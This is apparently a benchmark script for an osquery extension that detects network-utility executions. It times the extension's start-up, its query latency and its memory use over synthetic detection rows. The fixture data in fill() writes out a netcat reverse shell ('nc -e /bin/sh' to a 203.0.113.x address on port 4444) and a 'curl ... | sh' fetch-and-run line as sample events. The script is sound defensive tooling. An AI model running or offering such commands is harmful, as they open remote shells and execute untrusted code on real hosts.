"""Extension figures: start-up, query latency against retained rows, memory.

Run as root after set-up: `make bench`. Prints figures; asserts nothing about speed.

For 1,000, 10,000 and 100,000 retained rows (spread over the last 24 h, realistic sizes),
the built .ext is launched as osquery launches it, against the in-test extension manager,
and timed: registration after start, probe attached, `SELECT *`, `time > now-60` and
`utility = 'netcat'` through thrift (osquery's call), the same three through the embedded
host (APSW), and the extension's RSS. Medians of several runs per query.
"""

from __future__ import annotations

import json
import os
import statistics
import sys
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "bench"))

from osquery.extensions import Extension  # noqa: E402
from thrift.protocol import TBinaryProtocol  # noqa: E402
from thrift.Thrift import TMessageType  # noqa: E402
from thrift.transport import TTransport  # noqa: E402

from osquery_netutil.tables.thrift import Handler, Processor  # noqa: E402

from osquery_netutil.packs import source as packs  # noqa: E402
from osquery_netutil.host.database import Host  # noqa: E402
from osquery_netutil.schema import EXECS, STATUS  # noqa: E402
from osquery_netutil.store.store import Store  # noqa: E402
from osquery_netutil.tables.plugins import OP_EQUALS, OP_GT, ExecsTable, StatusTable  # noqa: E402
from common import save  # noqa: E402
from scripts.build_ext import build  # noqa: E402
from testkit.manager import Manager, context  # noqa: E402

SIZES = (1_000, 10_000, 100_000)
REPEAT = 5


def fill(path: Path, count: int) -> None:
    now = int(time.time())
    chain = json.dumps([{"pid": 4000 + i, "path": p, "cmdline": p + " -c 'curl -s http://x/i | sh'", "uid": 0}
                        for i, p in enumerate(["/tmp/.x/stage.sh", "/usr/bin/bash", "/usr/sbin/sshd", "/sbin/init"])])
    utilities = ["netcat", "curl", "wget", "nslookup", "ssh", "nmap"]
    with Store(path, max_rows=count + 10) as store:
        for i in range(count):
            store.add({
                "time": now - 86_000 + i * 86_000 // count, "pid": 10_000 + i, "parent": 9_000, "uid": 0, "gid": 0,
                "username": "root", "utility": utilities[i % 6], "category": "remote_shell", "technique": "T1095",
                "matched_by": "name", "comm": "nc", "path": "/usr/bin/nc", "cmdline": f"nc -e /bin/sh 203.0.113.{i % 250} 4444",
                "json_cmdline": json.dumps(["nc", "-e", "/bin/sh", f"203.0.113.{i % 250}", "4444"]), "argc": 5,
                "args_truncated": 0, "cwd": "/tmp", "ip_args": f"203.0.113.{i % 250}", "public_ip_args": "",
                "parent_path": "/tmp/.x/stage.sh", "parent_cmdline": "/tmp/.x/stage.sh", "ancestors": chain,
                "container_id": "", "cgroup_path": "/user.slice/session-1.scope",
            })
        store.flush()


def timed(fn, repeat: int = REPEAT) -> tuple[float, int]:
    times, n = [], 0
    for _ in range(repeat):
        start = time.perf_counter()
        n = len(fn())
        times.append(time.perf_counter() - start)
    return statistics.median(times), n


def extension_share(store: Store, request: dict[str, str]) -> tuple[float, int]:
    """The extension's own work for one call: decode the request, generate the rows,
    encode the reply, with the extension's Processor on an in-memory transport. (osquery's
    client is C++; timing a Python client would mostly time the client's decoding.)"""
    message = TTransport.TMemoryBuffer()
    protocol = TBinaryProtocol.TBinaryProtocol(message)
    protocol.writeMessageBegin("call", TMessageType.CALL, 1)
    Extension.call_args(registry="table", item=EXECS.name, request=request).write(protocol)
    protocol.writeMessageEnd()
    processor = Processor(Handler({EXECS.name: ExecsTable(lambda: store)}, threading.Event()))
    inbound, outbound = TTransport.TMemoryBuffer(message.getvalue()), TTransport.TMemoryBuffer()
    start = time.perf_counter()
    processor.process(TBinaryProtocol.TBinaryProtocol(inbound), TBinaryProtocol.TBinaryProtocol(outbound))
    elapsed = time.perf_counter() - start
    reply = TBinaryProtocol.TBinaryProtocol(TTransport.TMemoryBuffer(outbound.getvalue()))
    reply.readMessageBegin()
    result = Extension.call_result()
    result.read(reply)
    return elapsed, len(result.success.response)


def rss_mb(pid: int) -> tuple[float, float]:
    """(anonymous, file-backed) resident MB. File-backed is mostly libbcc's LLVM, shared
    and reclaimable; anonymous is the extension's own heap."""
    fields = dict(line.split(":", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines() if ":" in line)
    return int(fields["RssAnon"].split()[0]) / 1024, int(fields["RssFile"].split()[0]) / 1024


def run(ext: str, rows: int, work: Path) -> dict[str, object]:
    store = work / f"events-{rows}.db"
    fill(store, rows)
    now = int(time.time())
    result: dict[str, object] = {"rows": rows}
    queries = {
        "select_all": {},
        "last_60s": {"time": [(OP_GT, str(now - 60))]},
        "netcat": {"utility": [(OP_EQUALS, "netcat")]},
    }
    with Manager(work / f"m{rows}.em") as manager:
        start = time.perf_counter()
        # No answer cap: this measures what the largest answers cost the extension itself
        # (the default --max-answer-mb refuses a full 100,000-row answer, for osqueryd's sake).
        proc = manager.launch(ext, "--store", str(store), "--max-rows", str(rows + 10), "--max-answer-mb", "0")
        try:
            uuid = manager.wait_registered("netutil", timeout=30)
            result["registered_s"] = time.perf_counter() - start
            while True:
                (status,) = manager.generate(uuid, STATUS)
                if status["state"] != "starting" or time.perf_counter() - start > 30:
                    break
                time.sleep(0.02)
            result["attached_s"] = time.perf_counter() - start
            result["state"] = status["state"]
            result["rss_rest"] = rss_mb(proc.pid)
            for name, constraints in queries.items():
                result[f"socket_{name}"] = timed(lambda c=constraints: manager.generate(uuid, EXECS, c))
            result["rss_after"] = rss_mb(proc.pid)
        finally:
            manager.stop()
            proc.wait(timeout=30)
    with Store(store, readonly=True) as reader:
        for name, constraints in queries.items():
            request = {"action": "generate", "context": context(EXECS, constraints)}
            calls = [extension_share(reader, request) for _ in range(REPEAT)]
            result[f"thrift_{name}"] = (statistics.median(c[0] for c in calls), calls[0][1])
        host = Host([ExecsTable(lambda: reader), StatusTable(lambda: {"state": "running", "events_lost": 0, "error": ""})])
        sql = {
            "select_all": "SELECT * FROM network_utility_execs",
            "last_60s": f"SELECT * FROM network_utility_execs WHERE time > {now - 60}",
            "netcat": "SELECT * FROM network_utility_execs WHERE utility = 'netcat'",
        }
        for name, text in sql.items():
            result[f"host_{name}"] = timed(lambda t=text: host.query(t)[1])
        queries = packs.load()
        result["pack_run"] = timed(lambda: [row for q in queries for row in host.query(q.sql)[1]], repeat=3)
        host.close()
    return result


def main() -> int:
    if os.geteuid() != 0:
        print("bench: run as root (the extension attaches the probe)", file=sys.stderr)
        return 1
    with tempfile.TemporaryDirectory(prefix="netutil-bench-") as tmp:
        work = Path(tmp)
        work.chmod(0o700)
        ext = str(build(work / "osquery-netutil.ext"))
        results = [run(ext, n, work) for n in SIZES]
    print("extension: the built .ext against the test extension manager; medians of 5 runs")
    print("  thrift: the extension's share of osquery's call() (request decoding, rows, reply encoding);")
    print("  socket: the same call end to end from this Python test client, whose decoding dominates")
    print(f"  {'rows retained':<34}" + "".join(f"{r['rows']:>14,}" for r in results))
    print(f"  {'registered after start (s)':<34}" + "".join(f"{r['registered_s']:>14.2f}" for r in results))
    print(f"  {'probe attached after start (s)':<34}" + "".join(f"{r['attached_s']:>14.2f}" for r in results))
    for via in ("thrift", "socket", "host"):
        for name, label in (("select_all", "SELECT *"), ("last_60s", "WHERE time > now-60"), ("netcat", "WHERE utility='netcat'")):
            cells = "".join(f"{r[f'{via}_{name}'][0] * 1e3:>9.1f} ms{'':>2}" for r in results)
            print(f"  {via + ' ' + label + ' (ms)':<34}{cells}   rows: {[r[f'{via}_{name}'][1] for r in results]}")
    for key, label in (("rss_rest", "RSS at rest, anon + file (MB)"), ("rss_after", "RSS after the queries (MB)")):
        print(f"  {label:<34}" + "".join(f"{r[key][0]:>7.0f} +{r[key][1]:>4.0f}  " for r in results))
    print(f"  {'all detections, embedded host (ms)':<34}" + "".join(f"{r['pack_run'][0] * 1e3:>9.1f} ms{'':>2}" for r in results))
    print(f"  probe state: {[r['state'] for r in results]}")
    print(f"  written to {save('extension', {'sizes': results})}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
